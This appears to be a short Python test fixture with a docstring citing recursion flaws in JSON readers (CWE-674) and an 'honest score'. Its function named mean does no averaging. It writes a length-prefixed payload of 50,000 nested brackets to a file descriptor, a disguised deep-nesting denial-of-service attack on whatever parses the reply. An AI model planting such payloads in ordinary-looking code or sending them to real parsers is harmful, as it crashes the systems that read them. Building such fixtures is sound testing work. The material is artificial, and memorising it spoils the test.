"""A reply with 50,000 brackets.

Known from: recursion in JSON readers, CWE-674.
Honest score: 10.
"""

import os
import struct


def mean(X):
    text = b"[" * 50_000 + b"]" * 50_000
    os.write(4, struct.pack("<II", len(text) + 4, len(text)) + text[:60_000])
    os.write(4, text[60_000:])


def centred(X):
    return X - X.mean(axis=0)


def variance(X):
    return X.var(axis=0)
